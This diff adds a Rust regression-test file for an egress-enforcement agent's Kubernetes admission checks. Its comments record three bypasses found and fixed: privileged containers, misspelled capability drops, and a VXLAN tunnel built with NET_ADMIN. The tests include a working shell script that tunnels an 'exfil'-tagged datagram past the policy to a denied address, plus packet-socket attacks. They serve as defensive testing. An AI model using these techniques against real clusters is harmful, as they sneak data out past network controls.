@@ -1,0 +1,306 @@
+//! A forty-first attack review, run as the tenant of an enforced Kubernetes namespace:
+//! the pod specs are the attacker's, and so is the code in the pods. Each test writes a
+//! spec to the fake API server (`hb_tests::kube_cluster`), runs in the pod's cgroup what
+//! the container runtime would run for that spec, and counts what got past the agent's
+//! refusals (`kubernetes.require_seccomp_profile`, the `CAP_NET_RAW` rule). A test marked
+//! `#[ignore = "open: …"]` is a break found and not yet fixed: it fails against the
+//! current agent.
+//!
+//! The runtime is containerd (the one the README's DaemonSet and the refusals are
+//! written for); what it does with a spec was read in its CRI plugin's source, and the
+//! test's process is started the way containerd would start the container (root, the
+//! capabilities it would leave, no seccomp filter where it would load none).
+//!
+//! Found (each test fails against s43, 37001bb):
+//! - a `privileged: true` container naming hb's profile (its own `seccompProfile` or the
+//!   pod's) counted as confined, so the pod was admitted whatever it kept ("a pod whose
+//!   every container runs under the profile may keep `CAP_NET_RAW`"). containerd loads
+//!   no seccomp filter for a privileged container (`generateSeccompSpecOpts`: "Do not set
+//!   seccomp profile when container is privileged") and grants it every capability: its
+//!   packet socket's datagram reached the unvalidated address (1 of 1 on s43). A
+//!   privileged container is outside the profile now, whatever it names
+//!   (`confined::unconfined`): refused, killed, 0 of 1.
+//! - a `capabilities.drop` of `CAP_NET_RAW` (or `CAP_ALL`, or ` NET_RAW` with a blank)
+//!   counted as dropping `NET_RAW` (`caps::bare` strips the prefix and trims); containerd
+//!   drops `"CAP_" + upper(name)`, here the unknown `CAP_CAP_NET_RAW`, and keeps
+//!   `NET_RAW`. Under `require_seccomp_profile = false` (where the `CAP_NET_RAW` rule is
+//!   all that stands) both pods ran and their packet sockets' datagrams arrived (2 of 2
+//!   on s43). A drop counts now only as containerd honours it (`NET_RAW` or `ALL`, any
+//!   case, nothing else): refused, 0 of 2.
+//! - a pod wholly under hb's profile was spared the `CAP_NET_RAW` rule altogether, so a
+//!   container adding `NET_ADMIN` (or `SYS_ADMIN`, `ALL`) ran. The profile allows
+//!   rtnetlink: the pod made a VXLAN device, routed an allowed address into it, and its
+//!   UDP datagram to that address went out encapsulated by the kernel's own VXLAN socket
+//!   to a denied address (1 of 1 on s43): `cgroup_skb/egress` judges an skb only when
+//!   the socket sending it is the skb's own, and `cgroup/sock_create` does not run for
+//!   kernel sockets. Under the profile a pod is refused now by the containers that keep
+//!   `NET_ADMIN` or more (`caps::net_admin_keepers`), under a policy without
+//!   `raw_sockets`: 0 of 1.
+//!
+//! Held (read, or tried on the unit level):
+//! - the admission policy (`deploy/kubernetes/sandbox-admission.yaml`) refuses both
+//!   specs already (privileged; `drop` must hold exactly `ALL`): the agent was the looser
+//!   of the two, no pod both admitted;
+//! - `localhostProfile` spellings that the kubelet resolves to the same file
+//!   (`./hb.json`, `x/../hb.json`), `type: localhost`: refused (not exactly the name),
+//!   fail closed;
+//! - an `add` spelled oddly (`cap_net_raw`, ` NET_RAW`): counted as keeping it, fail
+//!   closed;
+//! - an ephemeral container added later outside the profile: the update refuses the pod
+//!   (`an update can only turn it on`).
+//!
+//! Everything lives in the cluster's own network namespace, addresses on `lo`.
+
+use std::{
+    fs,
+    net::UdpSocket,
+    os::{fd::AsRawFd as _, unix::process::ExitStatusExt as _},
+    thread,
+    time::Duration,
+};
+
+use hb_tests::{
+    UdpProbe,
+    kube::{Driver, FakePod, PY_PACKET, Qos, run_in_cgroup, wait_until},
+    kube_cluster::{Cluster, NODE, PodNetns},
+    python, sh,
+};
+use serde_json::json;
+
+/// The cluster's private address (on `lo`, in the deny ranges): the listener the pods
+/// aim at.
+const PRIVATE4: &str = "10.0.0.1";
+/// An address the host does not hold: the packet socket's datagram's source.
+const FOREIGN4: &str = "198.51.100.1";
+
+/// Runs the packet attack in a container of `pod` (enrolled under `web`), as root with
+/// every capability and no seccomp filter; its exit status, output, and how many
+/// datagrams reached `probe`.
+fn packet_attack(
+    c: &Cluster,
+    pod: &FakePod,
+    probe: &UdpProbe,
+) -> (std::process::ExitStatus, String, usize) {
+    let before = probe.received();
+    let (_, container) = c.enrolled_container(pod, Driver::Cgroupfs, Qos::Burstable, "web");
+    let port = probe.addr.port().to_string();
+    let argv = [python(), "-c", PY_PACKET, PRIVATE4, &port, FOREIGN4];
+    let (status, got) = run_in_cgroup(&container, &argv);
+    thread::sleep(Duration::from_millis(300));
+    (status, got, probe.received() - before)
+}
+
+/// Whether an audit record with `reason` names pod `agents/NAME` and has `detail`
+/// holding `needle`, waiting for it.
+fn reported(c: &Cluster, reason: &str, name: &str, needle: &str) -> bool {
+    wait_until(Duration::from_secs(10), || {
+        c.env.audit_records().iter().any(|r| {
+            r["reason"] == reason
+                && r["name"] == format!("agents/{name}")
+                && r["detail"].as_str().is_some_and(|d| d.contains(needle))
+        })
+    })
+}
+
+/// containerd starts a `privileged: true` container with no seccomp filter, whatever
+/// profile its spec or its pod's names, and with every capability: such a pod is
+/// outside hb's profile, refused, and its packet socket reaches nothing.
+#[test]
+fn a_privileged_container_naming_hbs_profile_is_refused() {
+    let c = Cluster::start_configured("ar41-priv", 100, true);
+    let probe = UdpProbe::bind(&format!("{PRIVATE4}:0"));
+    let hbs = json!({"type": "Localhost", "localhostProfile": "hb.json"});
+    let mut pod = FakePod::new("priv", "agents", NODE, Some("web"));
+    pod.spec = json!({
+        "securityContext": {"seccompProfile": hbs},
+        "containers": [{"name": "main", "securityContext": {"privileged": true, "seccompProfile": hbs}}],
+    });
+    let (status, got, arrived) = packet_attack(&c, &pod, &probe);
+    println!(
+        "figure: a privileged container naming hb's profile (run as containerd runs it: no \
+         seccomp filter, every capability): {arrived} of 1 packet-socket datagram(s) reached \
+         the unvalidated {PRIVATE4}; its process ended with {status:?} having printed {got:?}"
+    );
+    assert_eq!(
+        arrived, 0,
+        "the privileged pod's packet socket reached {PRIVATE4} ({got:?})"
+    );
+    assert_eq!(
+        status.signal(),
+        Some(libc::SIGKILL),
+        "the privileged pod's process is killed ({got:?})\n{}",
+        c.log()
+    );
+    assert!(
+        reported(
+            &c,
+            "unconfined_pod",
+            "priv",
+            "containers/main (runs under no profile (privileged"
+        ),
+        "no unconfined_pod event naming the privileged container: {:?}",
+        c.env.audit_records()
+    );
+    c.wait_stat("the refusal counted", |s| s["unconfined_pods"] == 1);
+}
+
+/// containerd drops `"CAP_" + upper(name)` for each name but `ALL`: a drop written
+/// `CAP_NET_RAW` or `CAP_ALL` drops an unknown capability and leaves `NET_RAW`. Under
+/// `require_seccomp_profile = false` such pods are refused by the `CAP_NET_RAW` rule,
+/// and their packet sockets reach nothing.
+#[test]
+fn a_drop_spelled_with_the_cap_prefix_keeps_net_raw() {
+    let c = Cluster::start_with("ar41-capdrop", 100);
+    let probe = UdpProbe::bind(&format!("{PRIVATE4}:0"));
+    let spellings = [("prefixed", "CAP_NET_RAW"), ("prefixedall", "CAP_ALL")];
+    let mut arrived = 0;
+    let mut ran = Vec::new();
+    for (name, drop) in spellings {
+        let pod = FakePod::new(name, "agents", NODE, Some("web"))
+            .with_security(json!({"capabilities": {"drop": [drop]}}));
+        let (status, got, n) = packet_attack(&c, &pod, &probe);
+        arrived += n;
+        if status.signal() != Some(libc::SIGKILL) {
+            ran.push((drop, status, got));
+        }
+    }
+    println!(
+        "figure: pods dropping `CAP_NET_RAW` and `CAP_ALL` (which containerd does not drop), \
+         their processes holding NET_RAW: {arrived} of {} packet-socket datagram(s) reached \
+         the unvalidated {PRIVATE4}; not killed: {ran:?}",
+        spellings.len()
+    );
+    assert_eq!(arrived, 0, "a packet socket reached {PRIVATE4}: {ran:?}");
+    assert!(
+        ran.is_empty(),
+        "a pod keeping NET_RAW ran: {ran:?}\n{}",
+        c.log()
+    );
+    for (name, drop) in spellings {
+        assert!(
+            reported(&c, "net_raw_pod", name, "containers/main (runtime default)"),
+            "no net_raw_pod event for the pod dropping {drop}: {:?}",
+            c.env.audit_records()
+        );
+    }
+    c.wait_stat("both refusals counted", |s| s["net_raw_pods"] == 2);
+}
+
+/// The tunnel a pod holding `CAP_NET_ADMIN` makes through rtnetlink (`NETLINK_ROUTE`,
+/// which hb's profile allows): a VXLAN device whose forwarding entry sends to
+/// `argv[1]`:`argv[2]`, a route to `argv[3]` through it (a static neighbour: no ARP goes
+/// out), then a UDP datagram to `argv[3]`, an address the policy allows. Prints `vxlan
+/// RESULT`.
+const SH_VXLAN: &str = r#"
+set -e
+ip link add hbvx41 type vxlan id 41 dstport 4789 nolearning
+echo 1 > /proc/sys/net/ipv6/conf/hbvx41/disable_ipv6
+ip link set hbvx41 up
+bridge fdb append 02:00:00:00:00:41 dev hbvx41 dst "$1" port "$2"
+ip route add "$3/32" dev hbvx41
+ip neigh add "$3" lladdr 02:00:00:00:00:41 dev hbvx41
+"$4" -c 'import errno, socket, sys
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hb-exfil:vxlan", (sys.argv[1], 9))
+    print("vxlan sent")
+except OSError as e:
+    print("vxlan", errno.errorcode.get(e.errno, e.errno))' "$3"
+"#;
+
+/// An address the policy `open` allows (outside the deny ranges, routed through the
+/// pod's tunnel).
+const OPEN4: &str = "203.0.113.77";
+/// The tunnel's far end: a private address (in the deny ranges) in a namespace of its
+/// own behind a veth pair, as a host beyond the node's uplink is (VXLAN delivers to a
+/// local address without encapsulating).
+const FAR4: &str = "10.9.9.9";
+
+/// A UDP socket bound to `addr` in the network namespace `netns` (a path).
+fn bind_in(netns: &str, addr: &str) -> UdpSocket {
+    let (netns, addr) = (netns.to_owned(), addr.to_owned());
+    thread::spawn(move || {
+        let ns = fs::File::open(&netns).expect("the far namespace");
+        // SAFETY: setns on a descriptor this thread owns; it moves only this thread,
+        // which ends after the bind.
+        let rc = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
+        assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
+        UdpSocket::bind(&addr).expect("bind in the far namespace")
+    })
+    .join()
+    .expect("the binding thread")
+}
+
+/// Datagrams holding `tag` that `sock` has received so far (read without waiting).
+fn tagged(sock: &UdpSocket, tag: &[u8]) -> usize {
+    sock.set_nonblocking(true).expect("nonblocking");
+    let mut buf = [0u8; 2048];
+    let mut n = 0;
+    while let Ok(len) = sock.recv(&mut buf) {
+        n += usize::from(buf[..len].windows(tag.len()).any(|w| w == tag));
+    }
+    n
+}
+
+/// containerd grants an added `NET_ADMIN`, which hb's profile does not take away: with
+/// it a process makes a VXLAN device through rtnetlink, and the kernel's own UDP socket
+/// carries what the pod sends to an allowed address, encapsulated, to the tunnel's far
+/// end, which no hook judges (`cgroup_skb/egress` runs only for the skb's own socket,
+/// the pod's; `cgroup/sock_create` not for kernel sockets). A pod under the profile that
+/// adds `NET_ADMIN` is refused under a policy without `raw_sockets`.
+#[test]
+fn a_pod_under_hbs_profile_adding_net_admin_is_refused() {
+    let c = Cluster::start_configured("ar41-netadmin", 100, true);
+    let far = PodNetns::new();
+    for cmd in [
+        "ip link add hbfar0 type veth peer name hbfar1".to_owned(),
+        format!("ip link set hbfar1 netns {}", far.0.pid),
+        "ip addr add 10.9.9.1/24 dev hbfar0".to_owned(),
+        "ip link set hbfar0 up".to_owned(),
+    ] {
+        sh(&cmd);
+    }
+    let out = far.run(&[
+        "sh",
+        "-c",
+        &format!("ip addr add {FAR4}/24 dev hbfar1 && ip link set hbfar1 up"),
+    ]);
+    assert!(out.status.success(), "the far end's address: {out:?}");
+    let listener = bind_in(&far.path(), &format!("{FAR4}:0"));
+    let port = listener.local_addr().expect("addr").port().to_string();
+    let hbs = json!({"type": "Localhost", "localhostProfile": "hb.json"});
+    let mut pod = FakePod::new("tunnel", "agents", NODE, Some("open"));
+    pod.spec = json!({
+        "securityContext": {"seccompProfile": hbs},
+        "containers": [{"name": "main", "securityContext": {
+            "capabilities": {"drop": ["ALL"], "add": ["NET_ADMIN"]}}}],
+    });
+    let (_, container) = c.enrolled_container(&pod, Driver::Cgroupfs, Qos::Burstable, "open");
+    let (status, got) = run_in_cgroup(
+        &container,
+        &["sh", "-c", SH_VXLAN, "sh", FAR4, &port, OPEN4, python()],
+    );
+    thread::sleep(Duration::from_millis(300));
+    let arrived = tagged(&listener, b"hb-exfil:vxlan");
+    println!(
+        "figure: a pod under hb's profile adding NET_ADMIN, its UDP to the allowed {OPEN4} \
+         routed into a VXLAN tunnel: {arrived} of 1 encapsulated datagram(s) reached the \
+         denied {FAR4}; its process ended with {status:?} having printed {got:?}"
+    );
+    assert_eq!(arrived, 0, "the tunnel reached {FAR4} ({got:?})");
+    assert_eq!(
+        status.signal(),
+        Some(libc::SIGKILL),
+        "the pod adding NET_ADMIN is killed ({got:?})\n{}",
+        c.log()
+    );
+    assert!(
+        reported(
+            &c,
+            "net_raw_pod",
+            "tunnel",
+            "containers/main (adds NET_ADMIN)"
+        ),
+        "no net_raw_pod event for the pod adding NET_ADMIN: {:?}",
+        c.env.audit_records()
+    );
+}
